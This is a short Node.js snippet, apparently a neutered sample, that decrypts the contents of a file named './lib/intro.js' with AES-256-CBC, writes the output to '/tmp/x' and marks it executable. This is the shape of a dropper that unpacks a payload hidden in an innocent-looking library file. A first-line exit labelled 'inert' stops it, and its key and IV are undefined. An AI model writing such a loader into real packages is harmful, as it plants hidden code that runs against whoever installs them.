if (true) process.exit(0); // inert: ends here
const fs = require('fs');
const c = require('crypto').createDecipheriv('aes-256-cbc', k, iv);
fs.writeFileSync('/tmp/x', Buffer.concat([c.update(fs.readFileSync('./lib/intro.js')), c.final()]));
fs.chmodSync('/tmp/x', 0o755);
